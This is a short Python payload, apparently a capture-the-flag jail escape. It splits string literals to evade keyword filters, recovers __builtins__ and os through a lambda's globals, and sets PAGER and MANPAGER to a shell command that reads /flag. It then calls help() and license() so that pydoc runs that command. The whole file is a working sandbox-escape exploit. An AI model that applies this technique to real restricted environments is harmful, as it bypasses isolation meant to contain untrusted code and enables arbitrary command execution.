# technique: pydoc pager command comes from an env var and is run by a shell; help() triggers it
im = getattr((lambda: 0).__globals__["__b" "uiltins__"], "__dict__", None) or (lambda: 0).__globals__["__b" "uiltins__"]
o = im["__im" "port__"]("o" "s")
env = getattr(o, "en" "viron")
env["PA" "GER"] = "s" "h -c 'cat /fl''ag >&2' #"
env["MANPA" "GER"] = env["PA" "GER"]
env["TERM"] = "dumb"
im["he" "lp"](int)
im["lic" "ense"]()
